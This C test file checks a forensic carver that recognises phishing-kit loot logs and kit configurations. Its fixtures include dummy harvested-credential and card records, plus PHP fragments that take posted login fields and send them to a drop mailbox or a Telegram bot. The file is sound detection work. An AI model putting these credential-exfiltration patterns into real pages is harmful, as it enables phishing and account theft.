/* carver_config_phishkit.c - results of kits, their programs, and what is not
 */
#include "carve.h"
#include "forensic/utf8.h"
#include "kit_rows.h"
#include "tap.h"
#include "text.h"

#define AGENT "User Agent : Mozilla/5.0 (Windows NT 10.0)\n"
#define TOKEN "123456789:AAE-fxkit-test-0123456789_abcdefghi"
#define ASKS                                            \
	"$m .= \"Online ID : \".$_POST['a'].\"\\n\";\n" \
	"$m .= \"Passcode  : \".$_POST['b'].\"\\n\";\n"
#define LOOKS "$ip = getenv(\"REMOTE_ADDR\");\n"

enum { ANY = 99 };

static const struct carve_case results[] = {
	{ "a result",
	    "|------| x |------|\nOnline ID            : jdoe\n"
	    "Passcode              : hunter2\n|Client IP: 198.51.100.7\n" AGENT,
	    "jdoe",
	    " form=result labels=user,password,ip,agent user=jdoe "
	    "password=hunter2 ip=198.51.100.7",
	    NULL, 12, ANY },
	{ "without rules", "Online ID: jdoe\r\nPasscode: x1\r\nIP: 203.0.113.9",
	    "jdoe", "label:ip", "ruled", 10, 19 },
	{ "a link to where",
	    "Email: a@b.example\nPassword: x1\nIP: 203.0.113.9\n"
	    "|-- http://www.geoiptool.com/?IP=203.0.113.9 --\n" AGENT,
	    "a@b.example", "where", NULL, 12, ANY },
	{ "stars and brackets",
	    "[+] Email    => a@b.example\n[+] Password => p-1 |\n"
	    "[+] IP => 203.0.113.9\n[+] CVV => 123\n",
	    "a@b.example", "password=p-1 ip=203.0.113.9 codes=cvv=123", "|", 12,
	    ANY },
	{ "a card's",
	    "++++ Fullz ++++\nCard Number : 4111111111111111\nExp : 09/28\n"
	    "CVV : 123\nSSN : 123-45-6789\nMMN : Smith\nDOB : 01/02/1970\n"
	    "Sort Code : 12-34-56\nIP : 203.0.113.9\n",
	    "sort code=12-34-56",
	    "codes=cvv=123, ssn=123-45-6789, mmn=Smith "
	    "account=sort code=12-34-56",
	    "4111", 20, ANY },
	{ "German",
	    "Anmeldename: mm\nKennwort: geheim\nTelefon-PIN: 12345\n"
	    "Geburtsdatum: 1.2.1970\nIP-Adresse: 203.0.113.9\n",
	    "mm", "password=geheim ip=203.0.113.9 codes=Telefon PIN=12345",
	    NULL, 12, ANY },
	{ "French",
	    "Identifiant : 123\nMot de passe : x\nCryptogramme : 123\n"
	    "Adresse IP : 203.0.113.9\n",
	    "123", "password=x ip=203.0.113.9 codes=cryptogramme=123", NULL, 12,
	    ANY },
	{ "Spanish, ISO/IEC 8859-1",
	    "Usuario: u\nContrase\xf1"
	    "a: x\nClave de firma: y\n"
	    "Direcci\xf3n IP: 203.0.113.9\n",
	    "u", "password=x ip=203.0.113.9 codes=clave de firma=y", NULL, 12,
	    ANY },
	{ "prefixes and numbers",
	    "Chase Online ID 1: u\nChase Passcode 1: x\nIP: 203.0.113.9\n"
	    "Email Password: y\n",
	    "u", "password=x", NULL, 12, ANY },
	{ "a date",
	    "Online ID: u\nPasscode: x\nIP: 203.0.113.9\n"
	    "Date: Sun Nov 22, 2026 12:31 pm\n",
	    "u", "date=Sun Nov 22, 2026 12:31 pm", NULL, 12, ANY },
	{ "a card's number for a date",
	    "Online ID: u\nPasscode: x\nIP: 203.0.113.9\n"
	    "Date: 4539 5787 6362 1486\n",
	    "u", "labels=user,password,ip,date", "4539", 12, ANY },
	{ "empty fields between",
	    "Online ID: u\nSSN:\nATM PIN:\nMMN:\nPasscode: x\n"
	    "IP: 203.0.113.9\n" AGENT,
	    "u", "labels=user,password,ip,agent", "codes", 12, ANY },
	/* what is not, or not surely */
	{ "a leaflet of a router",
	    "IP address: 192.168.0.1\nUser name: admin\nPassword: admin\n",
	    "admin", NULL, NULL, -99, 11 },
	{ "a mail of a hoster",
	    "-----------\nIP: 203.0.113.9\nUsername: root\nPassword: x1\n"
	    "Hostname: vps.example\n",
	    "root", "ruled", NULL, 1, 11 },
	{ "a stealer's",
	    "===\nSoft: Chrome\nEmail: a@b.example\nPassword: x\n"
	    "IP: 203.0.113.9\nBrowser: Chrome\n",
	    "a@b.example", "other-log", NULL, -99, 11 },
	{ "a mail's header",
	    "Subject: x\nUser-Agent: Mozilla/5.0\nDate: today\n\n"
	    "Username: u\nPassword: x\nHostname: h\n",
	    "u", NULL, "agent", 1, 11 },
	{ "no secret", "Online ID: u\nIP: 203.0.113.9\n" AGENT, NULL, NULL,
	    NULL, 0, 0 },
	{ "two labels", "Password: x\nIP: 203.0.113.9\n", NULL, NULL, NULL, 0,
	    0 },
	{ "no values", "Online ID:\nPasscode:\nIP:\nCVV:\n", NULL, NULL, NULL,
	    0, 0 },
	{ "a template", "Online ID: $id\nPasscode: ${p}\nIP: <ip>\n", NULL,
	    NULL, NULL, 0, 0 },
	{ "sentences",
	    "Username: the name of the user, as above\n"
	    "Password: what the user has to type here\nIP: 203.0.113.9\n",
	    NULL, NULL, NULL, 0, 0 },
	{ "a word in a line", "The password of jdoe: x\nIP: 203.0.113.9\n",
	    NULL, NULL, NULL, 0, 0 },
	{ "cut", "Password", NULL, NULL, NULL, 0, 0 },
};

static const struct carve_case programs[] = {
	{ "PHP",
	    LOOKS ASKS "$send = \"drop@mail.example\";\n"
		       "mail($send,$subject,$m);\n",
	    "drop@mail.example",
	    "form=php recipient=drop@mail.example labels=user,password", NULL,
	    12, ANY },
	{ "two who get it",
	    LOOKS ASKS
	    "$to='a@b.example, c@d.example';\nmail(\"$to\", $s, $m);",
	    "a@b.example", "recipient=a@b.example, c@d.example", NULL, 12,
	    ANY },
	{ "who gets it stands in the call",
	    LOOKS ASKS "mail('a@b.example', $s, $m);", "a@b.example",
	    "recipient", NULL, 12, ANY },
	{ "or elsewhere", LOOKS ASKS "mail($Receive_email,$s,$m);",
	    "$Receive_email", NULL, "recipient", 12, ANY },
	{ "a form for letters",
	    LOOKS "$m = \"Name: \".$_POST['n'].\"\\nEmail: \".$_POST['e'];\n"
		  "$to = 'a@b.example';\nmail($to, $s, $m);",
	    "a@b.example", "labels=email", NULL, -99, 11 },
	{ "a new account",
	    "$m = \"Username: $u\\nPassword: $p\\n\";\nmail($email, $s, $m);",
	    "$email", NULL, "sender", -99, 11 },
	{ "a letter without labels", LOOKS "mail($to, $s, $m);", NULL, NULL,
	    NULL, 0, 0 },
	{ "another function", LOOKS ASKS "send_mail($to, $s, $m);", NULL, NULL,
	    NULL, 0, 0 },
	{ "a method", LOOKS ASKS "$this->mail($to, $s, $m);", NULL, NULL, NULL,
	    0, 0 },
	{ "one argument", LOOKS ASKS "mail($to);", NULL, NULL, NULL, 0, 0 },
	{ "cut", LOOKS ASKS "mail($to, $s", NULL, NULL, NULL, 0, 0 },
	{ "a bot of Telegram",
	    LOOKS "$t='" TOKEN "';\n$chat_id=\"-1001234567890\";\n" ASKS
		  "file_get_contents(\"https://api.telegram.org/bot\".$t);",
	    "bot123456789",
	    "form=telegram token=" TOKEN " recipient=-1001234567890", NULL, 12,
	    ANY },
	{ "any bot",
	    "token = '" TOKEN "'\nchat_id = 123456789\nsendMessage()\n",
	    "bot123456789", "token,api,chat", "sender", -99, 11 },
	{ "a short token", "123456789:AAE-fxkit-test-0123456789_abcdefgh", NULL,
	    NULL, NULL, 0, 0 },
	{ "a long one", TOKEN "9", NULL, NULL, NULL, 0, 0 },
	{ "a long number", "12" TOKEN, NULL, NULL, NULL, 0, 0 },
};

static const struct {
	const char *value, *masked;
} masks[] = {
	{ "jdoe@mail.example", "j********@mail.example" },
	{ "bot123456789", "bot123456789" },
	{ "bot12345678901", "********" },
	{ "bot12345x", "********" },
	{ "jdoe", "********" },
	{ "1234567890", "********" },
	{ "$send", "********" },
	{ "a@b", "********" },
	{ "a@b@c.example", "********" },
	{ "@b.example", "********" },
	{ "a@4539578763621486.example", "********" },
	{ "\xc3\xa9@b.example", "********" },
	{ "", "" },
};

/* Each victim of a list is told once, with what is its own. */
static void
lists(const char *what, const char *text, const char *want)
{
	char told[4096] = "", one[1024];
	struct carve_text t;
	struct fx_hit hit;
	size_t i, n = 0;

	carve_open(&t, text, strlen(text), FX_ASCII);
	for (i = 0; i < t.w.len; i++) {
		if (!carve_at(&carver_config_phishkit, &t.w, i, &hit))
			continue;
		snprintf(one, sizeof(one), "%s/%s/%s@%zu+%zu ", hit.value,
		    fx_hit_get(&hit, "password"), fx_hit_get(&hit, "ip"),
		    hit.at, hit.len);
		if (strstr(told, one) == NULL && n + strlen(one) < sizeof(told))
			n += (size_t)snprintf(told + n, sizeof(told) - n, "%s",
			    one);
	}
	is_str(told, want, "%s", what);
	carve_close(&t);
}

/* The rows of kit.def are sorted by their first letter, and no two are one. */
static void
table(void)
{
	struct kit_line line;
	uint32_t last = 0, cp;
	struct fx_window w;
	size_t i, rows = 0, found = 0;
	char text[128];
	int bits;

	for (i = 0; i < kit_nwords; i++) {
		fx_utf8_decode(kit_words[i].text, strlen(kit_words[i].text),
		    &cp);
		cp = text_fold(cp);
		rows += cp >= last;
		last = cp;
		snprintf(text, sizeof(text), "%s:", kit_words[i].text);
		w = (struct fx_window){ .p = (const uint8_t *)text,
			.len = strlen(text),
			.unit = 1,
			.raw = (const uint8_t *)text };
		found += kit_read(&w, 0, w.len, &line) &&
		    kit_find(&line, &bits) == &kit_words[i];
	}
	is_int(rows, kit_nwords, "the labels are sorted");
	is_int(found, kit_nwords, "and each of them is found");
}

static const struct {
	const char *text;
	enum address is;
} addresses[] = {
	{ "198.51.100.7", ADDRESS_PUBLIC },
	{ "198.51.100.7 (Germany)", ADDRESS_PUBLIC },
	{ "2001:db8::1:2", ADDRESS_PUBLIC },
	{ "192.168.0.1", ADDRESS_LOCAL },
	{ "172.16.0.1", ADDRESS_LOCAL },
	{ "172.32.0.1", ADDRESS_PUBLIC },
	{ "10.0.0.1", ADDRESS_LOCAL },
	{ "127.0.0.1", ADDRESS_LOCAL },
	{ "256.1.1.1", ADDRESS_NONE },
	{ "1.2.3", ADDRESS_NONE },
	{ "1.2.3.", ADDRESS_NONE },
	{ "12:34:56", ADDRESS_NONE },
	{ "x", ADDRESS_NONE },
	{ "", ADDRESS_NONE },
};

int
main(void)
{
	char out[FX_VALUE_LEN];
	struct carve_text t;
	size_t i;

	carve_cases(&carver_config_phishkit, results, FX_LEN(results));
	carve_cases(&carver_config_phishkit, programs, FX_LEN(programs));
	for (i = 0; i < FX_LEN(masks); i++) {
		fx_mask(&carver_config_phishkit, masks[i].value, out);
		is_str(out, masks[i].masked, "mask of %s", masks[i].value);
	}
	for (i = 0; i < FX_LEN(addresses); i++) {
		carve_open(&t, addresses[i].text, strlen(addresses[i].text),
		    FX_ASCII);
		is_int(kit_address(&t.w, 0, t.w.len), addresses[i].is,
		    "address %s", addresses[i].text);
		carve_close(&t);
	}
	lists("two victims, with rules",
	    "--- x ---\nOnline ID: a\nPasscode: b\n--- IP ---\nIP: 1.1.1.1\n"
	    "--- by ---\n--- x ---\nOnline ID: c\nPasscode: d\n--- IP ---\n"
	    "IP: 2.2.2.2\n--- by ---\n",
	    "a/b/1.1.1.1@10+47 c/d/2.2.2.2@79+47 ");
	lists("three, without",
	    "Email: a@a.de\nPassword: b\nIP: 1.1.1.1\n"
	    "Email: c@c.de\nPassword: d\nIP: 2.2.2.2\n"
	    "Email: e@e.de\nPassword: f\nIP: 3.3.3.3\n",
	    "a@a.de/b/1.1.1.1@0+37 c@c.de/d/2.2.2.2@38+37 "
	    "e@e.de/f/3.3.3.3@76+37 ");
	lists("two, the address first",
	    "IP: 1.1.1.1\nUser: a\nPassword: b\n\n"
	    "IP: 2.2.2.2\nUser: c\nPassword: d\n",
	    "a/b/1.1.1.1@0+31 c/d/2.2.2.2@33+31 ");
	table();
	return done();
}
